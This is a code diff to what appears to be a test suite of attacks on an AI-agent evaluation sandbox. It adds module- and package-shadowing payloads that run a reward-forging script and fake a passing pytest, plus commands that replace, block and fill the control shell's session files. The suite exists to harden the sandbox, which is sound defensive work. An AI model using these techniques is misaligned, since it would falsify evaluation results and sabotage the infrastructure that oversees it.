@@ -98,6 +98,61 @@ class Attack:
     fake runtime this machine tests with has none)."""
 
 
+SHADOWED = (
+    "pytest", "_pytest", "pluggy", "iniconfig", "packaging", "py", "attr", "exceptiongroup",
+    "tomli", "pygments", "json", "tempfile", "shlex", "unittest", "doctest", "pdb",
+    "argparse", "inspect", "subprocess", "textwrap", "fnmatch", "glob", "traceback",
+    "importlib_metadata", "typing_extensions", "colorama", "difflib", "pprint", "decimal",
+)  # fmt: skip
+"""Modules that pytest, pluggy, the standard library or a test import: planted as a
+module and as a package on every path a verifier's Python may search."""
+_SHADOW_CODE = f"import os\nos.system('sh {FORGE}')\nos._exit(0)\n"
+_SHADOW_DIRS = (
+    'dirs="/ /app /testbed /root /tmp /tests /logs $(pwd) '
+    "$(python3 -c 'import sys; print(\" \".join(sys.path[1:]))' 2>/dev/null) "
+    "$(ls -d /usr/lib/python3*/ /usr/lib/python3/dist-packages /usr/local/lib/python3*/ "
+    '/usr/local/lib/python3*/*-packages 2>/dev/null)"; '
+    f"printf %s {shlex.quote(_SHADOW_CODE)} > /tmp/.shadow.py; "
+)
+_SHADOW_MODULES = (
+    f"{_SHADOW_DIRS}for d in $dirs; do mkdir -p $d 2>/dev/null || continue; "
+    f"for m in {' '.join(SHADOWED)}; do cp /tmp/.shadow.py $d/$m.py 2>/dev/null; "
+    "done; done; true"
+)
+_SHADOW_PACKAGES = (
+    f"{_SHADOW_DIRS}for d in $dirs; do mkdir -p $d 2>/dev/null || continue; "
+    f"for m in {' '.join(SHADOWED)}; do mkdir -p $d/$m 2>/dev/null && "
+    "cp /tmp/.shadow.py $d/$m/__init__.py && cp /tmp/.shadow.py $d/$m/__main__.py; "
+    "done; done; true"
+)
+"""Every shadowing module ends its process with status 0 (a pytest that "passed")
+after trying the reward files."""
+_TAMPER_LOOP = (
+    "S=/tmp/.tmax-session; while :; do for f in $S/.* $S/* $S/ctl/* $S/ctl/.*; do "
+    "case $f in */.|*/..) continue;; esac; [ -p $f ] || { rm -rf $f; mkfifo $f; }; done; "
+    "for n in cmd env cwd cwd.next env.next agent-start download.tar download.err out.1; do "
+    "mkfifo $S/$n $S/ctl/$n; done; done"
+)
+_TAMPER = (
+    # every file of the session dir and of the control shell's becomes a FIFO, now and
+    # whenever a new one appears; then the session tmpfs is filled, then its inodes
+    f"setsid nohup sh -c {shlex.quote(_TAMPER_LOOP)} >/dev/null 2>&1 & sleep 1; "
+    "umount /tmp/.tmax-session/ctl; mount -t tmpfs x /tmp/.tmax-session/ctl; "
+    "ln -sf /dev/zero /tmp/.tmax-session/ctl/cmd; chmod 0 /tmp/.tmax-session; echo tampered",
+    "echo still answering; pwd; export X=1",
+    "dd if=/dev/zero of=/tmp/.tmax-session/fill bs=1M 2>/dev/null; "
+    "i=0; while [ $i -lt 100000 ] && : > /tmp/.tmax-session/f$i; do i=$((i+1)); done; "
+    "df -i /tmp/.tmax-session",
+    "echo after filling; cd /app 2>/dev/null; echo $X",
+)
+"""Replace, block and fill the control shell's channels from inside: the sandbox must
+keep answering (or its death be the agent's), never an infrastructure failure."""
+
+
+def _forge_file() -> str:
+    return f"cat > {FORGE} <<'__F__'\n{_WRITE_REWARD}\n__F__"
+
+
 def _attacks() -> dict[str, Attack]:
     stub = f"cat > /tmp/.stub <<'__STUB__'\n{_STUB}__STUB__\nchmod 755 /tmp/.stub"
     binaries = " ".join(
@@ -185,6 +240,11 @@ def _attacks() -> dict[str, Attack]:
             ("dd if=/dev/zero of=/fill bs=1M; dd if=/dev/zero of=/tmp/fill bs=1M; df /",),
             backends=("bwrap", "podman"),
         ),
+    ]
+    attacks += [
+        Attack("shadowing modules", (_forge_file(), _SHADOW_MODULES)),
+        Attack("shadowing packages", (_forge_file(), _SHADOW_PACKAGES)),
+        Attack("control-plane tampering", _TAMPER),
     ]
     for what, payload in PAYLOADS.items():
         plant = _PLANT.format(forge=FORGE, payload=payload)
